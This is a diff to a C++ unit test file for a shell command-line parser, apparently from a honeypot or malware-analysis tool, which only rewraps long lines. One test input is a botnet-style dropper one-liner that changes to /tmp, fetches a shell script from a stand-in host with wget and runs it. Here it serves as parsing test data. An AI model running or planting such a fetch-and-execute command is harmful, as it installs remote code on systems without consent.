@@ -12,7 +12,8 @@ std::vector<std::string> argv_of(const ParsedLine& p, std::size_t pipeline, std:
 TEST(CommandLine, WordsQuotesAndEscapes) {
   auto p = parse_command_line(R"(echo 'a b' "c \"d\" \$e" f\ g h'i'"j")");
   ASSERT_TRUE(p.error.empty()) << p.error;
-  EXPECT_EQ(argv_of(p, 0, 0), (std::vector<std::string>{"echo", "a b", "c \"d\" $e", "f g", "hij"}));
+  EXPECT_EQ(argv_of(p, 0, 0),
+            (std::vector<std::string>{"echo", "a b", "c \"d\" $e", "f g", "hij"}));
 }
 
 TEST(CommandLine, EchoLoaderEscapesSurviveForEcho) {
@@ -28,7 +29,8 @@ TEST(CommandLine, EchoLoaderEscapesSurviveForEcho) {
 }
 
 TEST(CommandLine, ListsAndPipelines) {
-  auto p = parse_command_line("cd /tmp || cd /var/run; wget http://x/b.sh && sh b.sh & cat a | grep b");
+  auto p =
+      parse_command_line("cd /tmp || cd /var/run; wget http://x/b.sh && sh b.sh & cat a | grep b");
   ASSERT_TRUE(p.error.empty()) << p.error;
   ASSERT_EQ(p.pipelines.size(), 5u);
   EXPECT_EQ(p.pipelines[0].then, Connector::kOr);
